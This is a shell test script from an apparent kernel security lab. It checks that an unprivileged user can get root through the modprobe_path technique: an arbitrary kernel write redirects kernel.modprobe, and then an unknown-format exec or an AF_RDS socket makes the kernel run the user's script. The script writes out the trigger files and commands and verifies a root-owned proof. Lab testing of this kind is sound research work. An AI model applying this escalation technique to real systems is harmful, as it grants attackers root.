# SPDX-License-Identifier: GPL-2.0
# Lab attack c (arbitrary write -> modprobe_path -> root command): uid 1000
# points kernel.modprobe at its own script, then makes the kernel call
# request_module(), which runs that script as root.
#
# Trigger: exec of a file in an unknown binary format (first bytes ff ff ff
# ff) -> request_module("binfmt-ffff").  Checked in both kernels' sources
# (fs/exec.c search_binary_handler): the same on 6.1 and 6.12.  A second run
# uses another unprivileged trigger, socket(AF_RDS) -> request_module(
# "net-pf-21"), also the same on both kernels.
. /tests/lib/guest.sh
T=attack-modprobe-path
proof=/tmp/modprobe-proof
load_lab || { fail $T "vedlab did not load"; exit 1; }
orig=$(cat /proc/sys/kernel/modprobe)
echo "kernel.modprobe = $orig"

# Baseline 1: the sysctl is root's only.
if as_user sh -c 'echo /tmp/x > /proc/sys/kernel/modprobe' 2>/dev/null; then
	fail $T-baseline-sysctl "uid 1000 could write kernel.modprobe"
else
	pass $T-baseline-sysctl "uid 1000 cannot write kernel.modprobe ($orig)"
fi

# Baseline 2: the same script and trigger without the kernel write: the
# kernel runs the real modprobe path, the script never runs.
as_user sh -c "printf '#!/bin/sh\nid -u > $proof\n' > /tmp/base.sh; chmod 755 /tmp/base.sh;
	printf '\377\377\377\377' > /tmp/base-trigger; chmod 755 /tmp/base-trigger;
	/tmp/base-trigger" >/dev/null 2>&1
if [ -e $proof ]; then
	fail $T-baseline-trigger "proof file appeared without the exploit"
else
	pass $T-baseline-trigger "unknown-format exec alone creates no $proof"
fi

# run_attack TRIGGER: the exploit, then the root-owned proof.
run_attack() {
	rm -f $proof
	out=$(as_user modprobe-path "$1" 2>&1); rc=$?
	echo "$out"
	if [ $rc = 0 ] && root_owned $proof && [ "$(cat $proof)" = 0 ]; then
		pass $T-$1 "$2: uid 1000 ran its script as root ($proof: owner 0, id -u = 0)"
	else
		fail $T-$1 "$2: no root-owned proof (exit $rc, $(ls -ln $proof 2>&1))"
	fi
}
run_attack exec "exec trigger, request_module(binfmt-ffff), same on 6.1 and 6.12"
run_attack socket "socket(AF_RDS) trigger, request_module(net-pf-21)"

now=$(cat /proc/sys/kernel/modprobe)
if [ "$now" = "$orig" ]; then
	pass $T-restored "the exploit put kernel.modprobe back ($now)"
else
	fail $T-restored "kernel.modprobe left as $now"
fi
